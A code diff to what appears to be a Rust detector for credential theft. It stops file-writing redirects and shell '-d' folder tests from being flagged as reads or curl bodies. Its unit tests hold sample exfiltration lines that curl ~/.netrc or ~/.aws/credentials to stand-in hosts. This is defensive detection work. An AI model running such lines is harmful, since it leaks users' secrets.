@@ -131,6 +131,12 @@ fn store_sent(b: &Bundle<'_>, f: &File<'_>) -> Option<Finding> {
             {
                 continue;
             }
+            // A credential file a here-document or a redirect writes (`cat << 'EOF' > .npmrc`) is
+            // created, not read (round 44b).
+            let line = (at.fact.line as usize).saturating_sub(1);
+            if kind == FactKind::SecretFile && low.get(line).is_some_and(|l| only_written(l)) {
+                continue;
+            }
             if !at.fact.prose {
                 sources.push((
                     (at.fact.line as usize).saturating_sub(1),
@@ -193,7 +199,7 @@ fn store_sent(b: &Bundle<'_>, f: &File<'_>) -> Option<Finding> {
                 || query_concat(l)
         };
         let Some(k) = (s..end)
-            .find(|&k| SINKS.iter().any(|w| low[k].has(w)) || (k == s && sends_here(&low[k])))
+            .find(|&k| sink_on(&low[k]) || (k == s && sends_here(&low[k])))
         else {
             continue;
         };
@@ -275,7 +281,8 @@ fn reads_credential(l: &str) -> bool {
         "read_to_string",
         "readfilesync",
     ];
-    // A public key (`id_ed25519.pub`) is made to be given away.
+    // A public key (`id_ed25519.pub`) is made to be given away; a file a redirect writes
+    // (`cat << EOF > ~/.npmrc`) is not read (round 44b).
     READ.iter().any(|r| l.has(r))
         && CREDENTIAL_FILES.iter().any(|c| {
             l.match_indices(c).any(|(at, _)| {
@@ -283,9 +290,60 @@ fn reads_credential(l: &str) -> bool {
                 let end = rest
                     .find(|ch: char| ch.is_whitespace() || "\"')`;".contains(ch))
                     .unwrap_or(rest.len());
-                !rest[..end].ends_with(".pub")
+                !rest[..end].ends_with(".pub") && !redirect_target(l, at)
             })
         })
+}
+
+/// Whether the path that holds the byte `at` of `l` is the target of an output redirect or of
+/// `tee` (`> "${DIR}/.npmrc"`, `>> ~/.netrc`, `| tee -a ~/.pypirc`): the file is written there.
+/// The path runs back from `at` to a blank or the redirect itself.
+fn redirect_target(l: &str, at: usize) -> bool {
+    let head = &l[..at];
+    let start = head
+        .rfind(|c: char| c.is_whitespace() || c == '>')
+        .map_or(0, |i| i + 1);
+    let before = head[..start].trim_end();
+    before.ends_with('>')
+        || before.ends_with(" tee")
+        || before.ends_with(" tee -a")
+        || before.ends_with("|tee")
+}
+
+/// Whether every credential file named on `l` is a redirect's target and the line reads none
+/// (no `<` input redirect of one, no `@path` upload): a line that only writes such a file.
+fn only_written(l: &str) -> bool {
+    let mut any = false;
+    for c in CREDENTIAL_FILES {
+        for (at, _) in l.match_indices(c) {
+            if !redirect_target(l, at) {
+                return false;
+            }
+            any = true;
+        }
+    }
+    any && !at_credential(l)
+}
+
+/// Whether `l` holds a call that sends a body ([`SINKS`]). A shell file test (`[ ! -d "$dir" ]`,
+/// `[[ -d '…' ]]`, `test -d "…"`) is not curl's `-d` body (round 44b): its `-d "`/`-d '` counts only
+/// when it is not a test's operator.
+fn sink_on(l: &str) -> bool {
+    SINKS.iter().any(|w| {
+        if !matches!(*w, "-d \"" | "-d '") {
+            return l.has(w);
+        }
+        l.match_indices(w).any(|(at, _)| !file_test(&l[..at]))
+    })
+}
+
+/// Whether the text before a `-d` ends in a test's opening (`[`, `[[`, `!`, `test`, `(`).
+fn file_test(before: &str) -> bool {
+    let b = before.trim_end();
+    ["[", "[[", "!", "test", "("].iter().any(|t| {
+        b.strip_suffix(t)
+            .is_some_and(|r| r.is_empty() || r.ends_with(|c: char| c.is_whitespace() || c == ';' || c == '&' || c == '|'))
+    })
 }
 
 /// Whether a line appends a value to a URL's query (`'https://h/p?d=' . x`, `"…?k=" + x`,
@@ -367,4 +425,28 @@ fn destination(f: &File<'_>, k: usize) -> Option<Host> {
         return None;
     }
     worst_suspicious(&all).cloned()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{only_written, reads_credential, sink_on};
+
+    #[test]
+    fn redirect_targets_are_written() {
+        assert!(only_written("cat << 'cfg' > \"${dir}/.npmrc\""));
+        assert!(only_written("printf 'x' | tee -a ~/.pypirc"));
+        assert!(!reads_credential("cat > /tmp/w/.netrc <<'x'"));
+        assert!(!only_written("cat ~/.npmrc > /tmp/copy"));
+        assert!(reads_credential("cat ~/.npmrc > /tmp/copy"));
+        assert!(!only_written("curl -f @~/.netrc https://x.example/u > /tmp/out"));
+    }
+
+    #[test]
+    fn folder_tests_are_no_body() {
+        assert!(!sink_on("if [ ! -d \"${h}/node_modules/x\" ]; then"));
+        assert!(!sink_on("[[ -d '/tmp/w' ]] && echo ok"));
+        assert!(!sink_on("test -d \"$out\" || mkdir \"$out\""));
+        assert!(sink_on("curl -s -d \"t=$t\" https://x.example/in"));
+        assert!(sink_on("[ -d ~/.aws ] && curl -s -d \"$(cat ~/.aws/credentials)\" https://x.example/in"));
+    }
 }
